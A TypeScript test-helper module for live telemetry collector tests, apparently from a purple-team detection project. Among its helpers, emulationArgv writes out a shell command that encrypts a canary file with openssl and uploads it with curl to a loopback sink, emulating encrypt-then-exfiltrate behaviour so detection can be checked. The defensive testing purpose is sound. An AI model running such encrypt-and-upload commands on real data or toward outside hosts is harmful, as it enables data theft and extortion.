// Shared by the live collector tests: a loopback HTTP sink, a workspace with a canary file, and
// the tiny encrypt-then-upload emulation the brief names, started as a real process tree.

import { createServer, type Server } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import type { CommandRunner, EmulationWindow, TelemetryEvent } from '../../src/model/index.js';
import { linuxAuditCollector } from '../../collectors/linux-audit/collector.js';

/** Why the live audit tests cannot run here (not Linux, not root, no audit, no openssl/curl), or undefined. */
export async function auditLiveSkipReason(runner: CommandRunner): Promise<string | undefined> {
  const isRoot = process.getuid?.() === 0;
  if (process.platform !== 'linux') return 'not Linux';
  if (!isRoot) return 'needs root (audit rules)';
  const a = await linuxAuditCollector.probe({ runner, hostName: 'test', hostId: 'test-host', isRoot, options: {} });
  if (!a.available) return `audit unavailable: ${a.reason ?? ''}`;
  for (const b of ['openssl', 'curl']) if (!(await runner.which(b))) return `${b} not installed`;
  return undefined;
}

export interface Sink {
  port: number;
  received: number;
  close(): Promise<void>;
}

export async function startSink(): Promise<Sink> {
  const s: { received: number } = { received: 0 };
  const server: Server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      s.received++;
      res.end('ok\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const addr = server.address();
  if (!addr || typeof addr === 'string') throw new Error('no port');
  return {
    port: addr.port,
    get received() {
      return s.received;
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

export function makeWorkspace(): { dir: string; cleanup(): void } {
  const dir = mkdtempSync(join(tmpdir(), 'purple-collector-test-'));
  writeFileSync(join(dir, 'F'), 'PURPLE-CANARY\n' + 'x'.repeat(4096));
  return { dir, cleanup: () => rmSync(dir, { recursive: true, force: true }) };
}

export function emulationArgv(port: number): string[] {
  return ['sh', '-c', `openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in F -out G; curl -s --data-binary @G http://127.0.0.1:${port}/`];
}

/** Runs argv in dir, returns the window the harness would report for it. */
export async function runEmulation(argv: string[], dir: string, variantId = 'v1'): Promise<EmulationWindow & { exitCode: number | undefined }> {
  const startMs = Date.now();
  const [file, ...args] = argv;
  const child = execa(file!, args, { cwd: dir, reject: false, stdin: 'ignore' });
  const pid = child.pid!;
  const r = await child;
  return { variantId, rootPids: [pid], startMs, endMs: Date.now(), exitCode: r.exitCode };
}

export function findExec(events: TelemetryEvent[], name: string): TelemetryEvent | undefined {
  return events.find((e) => e.event.action === 'exec' && e.process?.name === name);
}

/**
 * The exec of `name` whose parent is `parentPid`. Collectors that see the whole host (audit,
 * procfs) also see other tests' processes, run at the same time: a name alone may find theirs.
 */
export function findExecUnder(events: TelemetryEvent[], parentPid: number | undefined, name: string): TelemetryEvent | undefined {
  return events.find((e) => e.event.action === 'exec' && e.process?.name === name && e.process.parent?.pid === parentPid);
}

export function findConnect(events: TelemetryEvent[], port: number): TelemetryEvent | undefined {
  return events.find((e) => e.event.category === 'network' && e.destination?.port === port && e.destination.ip === '127.0.0.1');
}
